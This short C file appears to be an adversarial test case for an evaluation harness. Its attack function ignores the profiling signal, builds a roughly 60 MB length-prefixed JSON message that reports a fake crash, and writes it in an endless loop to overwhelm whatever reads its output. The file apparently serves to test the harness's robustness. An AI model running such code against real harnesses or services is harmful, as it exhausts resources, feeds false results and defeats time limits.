// Sends messages that are slow to read, one after the other.
// outcome: unknown
// memory: 700
#include "attack.h"

double attack(double x) {
  signal(SIGPROF, SIG_IGN);
  char* frame = (char*)mmap(0, 65 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  const char* begin = "{\"retried\":{\"id\":\"0\",\"kind\":\"crash\",\"detail\":\"\",\"also\":[";
  const char* one =
      "{\"input\":{\"x\":{\"decimal\":\"1\",\"hex\":\"0x1p+0\"}},\"computed\":{\"decimal\":\"1\",\"hex\":\"1\"}},";
  const char* end = "],\"input\":{\"x\":{\"decimal\":\"1\",\"hex\":\"0x1p+0\"}}}}";
  unsigned length = (unsigned)strlen(begin);
  memcpy(frame + 4, begin, length);
  while (length < 60u << 20) {
    memcpy(frame + 4 + length, one, strlen(one));
    length += strlen(one);
  }
  --length;
  memcpy(frame + 4 + length, end, strlen(end));
  length += strlen(end);
  memcpy(frame, &length, sizeof length);
  for (;;)
    write_all(frame, length + 4);
  return x;
}
